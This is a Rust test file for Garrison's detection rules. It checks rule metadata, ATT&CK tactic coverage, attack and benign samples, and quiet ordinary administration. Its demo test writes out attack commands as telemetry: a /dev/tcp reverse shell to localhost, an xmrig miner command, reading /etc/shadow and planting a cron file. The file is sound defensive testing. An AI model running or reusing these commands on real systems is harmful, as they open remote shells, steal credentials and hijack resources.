//! The rules that ship with Garrison, through the engine that runs them: each is accepted without a remark, fires on its
//! attack samples, keeps quiet on its benign ones, and none above low fires on ordinary administration.

use garrison_sigma::{
    CorrelationState, Engine, HuntingMap, Level, Matches, Options, Origin, Platform, RuleIndex, RuleKind, RuleSet,
    Scratch,
};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Fewer rules or tactics than this means that content was lost.
const RULES_MIN: usize = 80;
const RULES_PER_TACTIC_MIN: usize = 3;
const NOISE_ROWS_MIN: usize = 300;

/// The tactics of ATT&CK 18 that a host can see.
const TACTICS: [&str; 14] = [
    "reconnaissance",
    "resource_development",
    "initial_access",
    "execution",
    "persistence",
    "privilege_escalation",
    "defense_evasion",
    "credential_access",
    "discovery",
    "lateral_movement",
    "collection",
    "command_and_control",
    "exfiltration",
    "impact",
];

fn content() -> PathBuf {
    PathBuf::from(std::env::var_os("CARGO_MANIFEST_DIR").unwrap()).join("../../content")
}

/// Files below a folder with this ending, in order of their paths.
fn files(folder: &Path, ending: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut open = vec![folder.to_path_buf()];
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else if path.extension().is_some_and(|e| e == ending) {
                found.push(path);
            }
        }
    }
    found.sort();
    found
}

fn engine() -> Engine {
    let sources: Vec<(String, String)> = files(&content().join("rules"), "yml")
        .into_iter()
        .map(|path| (path.display().to_string(), fs::read_to_string(&path).unwrap()))
        .collect();
    let (rules, diagnostics) = RuleSet::load(sources, &Options::default());
    let remarks: Vec<String> = diagnostics.iter().map(|d| format!("{d:?}")).collect();
    assert!(remarks.is_empty(), "the shipped rules are read without a remark:\n{}", remarks.join("\n"));
    Engine::compile(Arc::new(rules), Arc::new(HuntingMap))
}

/// Rows of a sample in their order, as (table, rows) runs.
fn runs(groups: &Value) -> Vec<(String, Vec<Value>)> {
    let groups = groups.as_array().expect("a list of tables with rows");
    groups.iter().map(|g| (g["table"].as_str().unwrap().to_owned(), g["rows"].as_array().unwrap().clone())).collect()
}

/// What fired on each row, and the correlations that held over all of them.
struct Fired {
    rows: Vec<(String, Value, BTreeSet<u32>)>,
    correlations: BTreeSet<u32>,
}

fn run(engine: &Engine, scratch: &mut Scratch, groups: &Value) -> Fired {
    let mut state = CorrelationState::default();
    let mut fired = Fired { rows: Vec::new(), correlations: BTreeSet::new() };
    let mut matches = Matches::new();
    let mut sequence = 1;
    for (table, rows) in runs(groups) {
        let batch = garrison_telemetry::batch_from_json(&table, &rows).unwrap_or_else(|e| panic!("{table}: {e}"));
        engine.evaluate(scratch, &table, Some(Platform::Linux), &batch, &mut matches);
        let origin = Origin { device: Arc::from("d1"), sequence_first: sequence, received: received(&rows) };
        sequence += rows.len() as u64;
        let hits = state.observe(engine, &table, &batch, &matches, &origin);
        fired.correlations.extend(hits.iter().map(|hit| hit.rule.0));
        for (number, row) in rows.into_iter().enumerate() {
            let on_row = matches.hits().iter().filter(|h| h.row as usize == number);
            fired.rows.push((table.clone(), row, on_row.map(|h| h.rule.0).collect()));
        }
    }
    fired
}

/// The rows' own newest time, in microseconds: samples are their own clock.
fn received(rows: &[Value]) -> i64 {
    let times = rows.iter().filter_map(|row| row["Timestamp"].as_str());
    // All samples are of one day, so the time of day orders them.
    let of = |text: &str| {
        let part = |range: std::ops::Range<usize>| text[range].parse::<i64>().unwrap();
        let day_micros = 1_795_392_000_000_000; // 2026-11-23T00:00:00Z
        day_micros + ((part(11..13) * 60 + part(14..16)) * 60 + part(17..19)) * 1_000_000 + 900_000
    };
    times.map(of).max().unwrap()
}

fn samples() -> Vec<(String, Value)> {
    files(&content().join("samples"), "json")
        .into_iter()
        .map(|path| {
            let text = fs::read_to_string(&path).unwrap();
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            let value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}"));
            (name, value)
        })
        .collect()
}

fn title(engine: &Engine, rule: u32) -> String {
    engine.rule(RuleIndex(rule)).map(|r| r.title.clone()).unwrap_or_default()
}

fn shown(row: &Value) -> String {
    row.to_string().chars().take(400).collect()
}

#[test]
fn shipped_rules_compile_without_a_remark() {
    let engine = engine();
    let mut remarks = Vec::new();
    for (index, rule) in engine.rules().iter() {
        for diagnostic in engine.diagnostics(index) {
            remarks.push(format!("{}: {diagnostic:?}", rule.title));
        }
        assert!(engine.is_active(index), "{} is in use", rule.title);
        assert!(!engine.tables_of(index).is_empty(), "{} reads a table", rule.title);
    }
    assert!(remarks.is_empty(), "{}", remarks.join("\n"));
}

#[test]
fn every_rule_says_what_to_know_and_what_to_do() {
    let engine = engine();
    let mut ids = BTreeSet::new();
    for (index, rule) in engine.rules().iter() {
        let title = &rule.title;
        assert!(ids.insert(rule.id.clone()), "{title}: its id is its own");
        assert!(rule.id.len() == 36, "{title}: the id is a UUID");
        assert_eq!(rule.author, "Garrison", "{title}");
        assert!(rule.description.len() > 20, "{title}: described");
        assert!(!rule.tactics.is_empty() && !rule.techniques.is_empty(), "{title}: has tactic and technique");
        if engine.alerts(index) {
            assert!(!rule.false_positives.is_empty(), "{title}: has notes on false positives");
            assert!(rule.recommended_action.len() > 20, "{title}: says what to do");
            assert!(rule.level >= Level::Low, "{title}: has a level that makes an alert");
        }
    }
}

#[test]
fn every_tactic_is_covered() {
    let engine = engine();
    let mut tactics: BTreeMap<String, usize> = BTreeMap::new();
    let alerting: Vec<_> = engine.rules().iter().filter(|(index, _)| engine.alerts(*index)).collect();
    assert!(alerting.len() >= RULES_MIN, "{} rules", alerting.len());
    for (_, rule) in &alerting {
        let folder = Path::new(rule.source.as_ref()).parent().unwrap().file_name().unwrap();
        *tactics.entry(folder.to_string_lossy().into_owned()).or_default() += 1;
    }
    for tactic in TACTICS {
        let count = tactics.get(tactic).copied().unwrap_or_default();
        assert!(count >= RULES_PER_TACTIC_MIN, "{tactic} has {count} rules");
    }
    assert!(alerting.iter().any(|(_, r)| r.kind == RuleKind::Correlation), "some are correlations");
}

#[test]
fn every_rule_fires_on_its_attack_and_not_on_its_benign_samples() {
    let engine = engine();
    let mut scratch = Scratch::new();
    let mut wrong = Vec::new();
    let mut seen = BTreeSet::new();
    for (name, sample) in samples() {
        let id = sample["rule"].as_str().unwrap();
        let Some(index) = engine.rules().find(id) else { panic!("{name}: there is no rule {id}") };
        let rule = engine.rule(index).unwrap();
        assert!(seen.insert(index), "{name}: one sample file a rule");
        for (kind, expected) in [("attack", true), ("benign", false)] {
            let fired = run(&engine, &mut scratch, &sample[kind]);
            assert!(!fired.rows.is_empty(), "{name} has {kind} rows");
            if rule.kind == RuleKind::Correlation {
                if fired.correlations.contains(&index.0) != expected {
                    wrong.push(format!("{name} ({kind}): the correlation"));
                }
                continue;
            }
            for (_, row, hits) in fired.rows.iter().filter(|r| r.2.contains(&index.0) != expected) {
                wrong.push(format!("{name} ({kind}), {} rules fired: {}", hits.len(), shown(row)));
            }
        }
    }
    for (index, rule) in engine.rules().iter().filter(|(index, _)| engine.alerts(*index)) {
        if !seen.contains(&index) {
            wrong.push(format!("{} has no samples", rule.title));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn no_benign_sample_fires_a_severe_rule() {
    let engine = engine();
    let mut scratch = Scratch::new();
    let mut wrong = Vec::new();
    for (name, sample) in samples() {
        for (_, row, hits) in run(&engine, &mut scratch, &sample["benign"]).rows {
            for rule in hits.into_iter().filter(|r| engine.alerts(RuleIndex(*r))) {
                if engine.rule(RuleIndex(rule)).is_some_and(|r| r.level >= Level::High) {
                    wrong.push(format!("{name}: {} fires on {}", title(&engine, rule), shown(&row)));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_administration_is_quiet() {
    let engine = engine();
    let mut scratch = Scratch::new();
    let mut wrong = Vec::new();
    let mut rows = 0;
    for path in files(&content().join("noise"), "json") {
        let noise: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
        let fired = run(&engine, &mut scratch, &noise["rows"]);
        rows += fired.rows.len();
        let loud = |rule: &u32| {
            let alerts = engine.alerts(RuleIndex(*rule));
            alerts && engine.rule(RuleIndex(*rule)).is_some_and(|r| r.level > Level::Low)
        };
        for rule in fired.correlations.iter().filter(|r| loud(r)) {
            wrong.push(format!("{}: {}", path.display(), title(&engine, *rule)));
        }
        for (_, row, hits) in &fired.rows {
            for rule in hits.iter().filter(|r| loud(r)) {
                wrong.push(format!("{}: {} fires on {}", path.display(), title(&engine, *rule), shown(row)));
            }
        }
    }
    assert!(rows >= NOISE_ROWS_MIN, "{rows} rows of noise");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The page in docs/reference that lists the rules by tactic; `GARRISON_BLESS=1` writes it anew.
#[test]
fn the_reference_page_lists_every_rule() {
    let engine = engine();
    let mut page = String::from(
        "# Detection rules\n\nThe rules that ship with Garrison, by ATT&CK tactic.\nThis page is generated from `content/rules`; \
         how to write one: [Writing rules](../guides/writing-rules.md).\n",
    );
    let alerting: Vec<_> = engine.rules().iter().filter(|(index, _)| engine.alerts(*index)).collect();
    page.push_str(&format!("There are {} of them.\n", alerting.len()));
    for tactic in TACTICS {
        let words: Vec<&str> = tactic.split('_').collect();
        let mut heading = words.join(" ");
        heading[..1].make_ascii_uppercase();
        page.push_str(&format!("\n## {heading}\n\n| rule | severity | techniques | reads | what it finds |\n"));
        page.push_str("|---|---|---|---|---|\n");
        let mut rows: Vec<String> = Vec::new();
        for (index, rule) in &alerting {
            let path = Path::new(rule.source.as_ref());
            if path.parent().unwrap().file_name().is_none_or(|folder| folder.to_string_lossy() != tactic) {
                continue;
            }
            let file = path.file_name().unwrap().to_string_lossy();
            let description = rule.description.split_whitespace().collect::<Vec<_>>().join(" ");
            let first = description.split_once(". ").map_or(description.as_str(), |(first, _)| first);
            rows.push(format!(
                "| [{}](../../content/rules/linux/{tactic}/{file}) | {} | {} | {} | {} |\n",
                rule.title,
                rule.level.as_str(),
                rule.techniques.join(", "),
                engine.tables_of(*index).join(", "),
                first.trim_end_matches('.').replace('|', "\\|"),
            ));
        }
        rows.sort();
        page.push_str(&rows.concat());
    }
    let path = content().join("../docs/reference/rules.md");
    if std::env::var_os("GARRISON_BLESS").is_some() {
        fs::write(&path, &page).unwrap();
    }
    let there = fs::read_to_string(&path).unwrap_or_default();
    assert!(there == page, "docs/reference/rules.md is not up to date; run this test with GARRISON_BLESS=1");
}

/// What `cargo xtask demo` plays, as the sensor tells it: every step must be seen.
#[test]
fn every_step_of_the_demo_is_seen() {
    let engine = engine();
    let web = "/tmp/.garrison-demo-7/apache2";
    let process = |image: &str, line: &str, parent: &str| {
        serde_json::json!({
            "Timestamp": "2026-11-23T10:00:00.000000Z", "ActionType": "ProcessCreated", "FolderPath": image,
            "FileName": image.rsplit('/').next(), "ProcessCommandLine": line, "AccountName": "root",
            "InitiatingProcessFolderPath": parent, "InitiatingProcessFileName": parent.rsplit('/').next(),
            "InitiatingProcessCommandLine": parent, "InitiatingProcessAccountName": "root",
            "AdditionalFields": {"Cwd": "/root"},
        })
    };
    let cron = serde_json::json!({
        "Timestamp": "2026-11-23T10:00:00.000000Z", "ActionType": "FileCreated",
        "FolderPath": "/etc/cron.d/garrison-demo", "FileName": "garrison-demo",
        "InitiatingProcessFolderPath": "/usr/bin/dash", "InitiatingProcessFileName": "dash",
        "InitiatingProcessCommandLine": "sh -c echo '@yearly root /bin/true' > /etc/cron.d/garrison-demo",
    });
    let (sh, update) = ("/usr/bin/dash", "/tmp/.garrison-demo-7/update");
    let reverse = "bash -c bash -i >& /dev/tcp/127.0.0.1/40001 0>&1";
    let miner = "/tmp/.garrison-demo-7/xmrig -o stratum+tcp://127.0.0.1:3333 -u demo --donate-level 1 --cpu-priority 0";
    let steps = [
        ("web_server_runs_discovery_command", "DeviceProcessEvents", process(sh, "sh -c id; whoami; uname -a", web)),
        ("execution_from_temporary_folder", "DeviceProcessEvents", process(update, update, sh)),
        ("reverse_shell_dev_tcp", "DeviceProcessEvents", process("/usr/bin/bash", reverse, "/usr/bin/timeout")),
        ("cron_file_written", "DeviceFileEvents", cron),
        ("shadow_named_on_command_line", "DeviceProcessEvents", process(sh, "sh -c cat /etc/shadow > /dev/null", web)),
        ("miner_command_line", "DeviceProcessEvents", process("/tmp/.garrison-demo-7/xmrig", miner, sh)),
    ];
    for (name, table, row) in steps {
        let fired = run(&engine, &mut Scratch::new(), &serde_json::json!([{"table": table, "rows": [row]}]));
        let of_name = |rule: &u32| {
            let source = &engine.rule(RuleIndex(*rule)).unwrap().source;
            Path::new(source.as_ref()).file_stem().is_some_and(|stem| stem == name)
        };
        assert!(fired.rows[0].2.iter().any(of_name), "{name} fires on its step");
    }
}
